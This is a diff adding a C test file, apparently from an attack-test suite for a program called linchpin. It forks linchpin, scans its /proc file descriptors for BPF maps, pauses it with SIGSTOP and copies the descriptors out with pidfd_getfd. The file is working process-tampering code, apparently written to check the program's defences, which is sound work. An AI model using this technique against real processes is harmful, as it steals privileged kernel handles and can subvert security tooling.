@@ -1,0 +1,49 @@
+// SPDX-License-Identifier: GPL-2.0-only OR MIT
+/*
+ * Waits until linchpin has a map open, and takes the descriptor out of it with pidfd_getfd(2).
+ * Success: the descriptor.
+ */
+#include "payload.h"
+#include <dirent.h>
+#include <signal.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+
+/* Takes the first descriptor of anything of BPF. */
+static void take_from(pid_t process)
+{
+	int handle = must("pidfd_open", syscall(SYS_pidfd_open, process, 0));
+	char path[64], what[64];
+
+	for (int fd = 3; fd < 256; fd++) {
+		ssize_t length;
+
+		snprintf(path, sizeof(path), "/proc/%d/fd/%d", process, fd);
+		length = readlink(path, what, sizeof(what) - 1);
+		if (length < 0 && errno != ENOENT)
+			must("readlink /proc/PID/fd", -1);
+		if (length < 0 || !memmem(what, length, "bpf-", 4))
+			continue;
+		kill(process, SIGSTOP);
+		must("pidfd_getfd", syscall(SYS_pidfd_getfd, handle, fd, 0));
+		got("a descriptor that linchpin had: %.*s", (int)length, what);
+	}
+	close(handle);
+}
+
+static void run(void)
+{
+	for (int tries = 0; tries < 5; tries++) {
+		pid_t child = must("fork", fork());
+		int status;
+
+		if (child == 0) {
+			execl(LINCHPIN, LINCHPIN, "status", NULL);
+			_exit(127);
+		}
+		while (waitpid(child, &status, WNOHANG) == 0)
+			take_from(child);
+	}
+}
+
+ATTACK("takes a descriptor out of linchpin while it runs", .run = run, .seconds = 60);
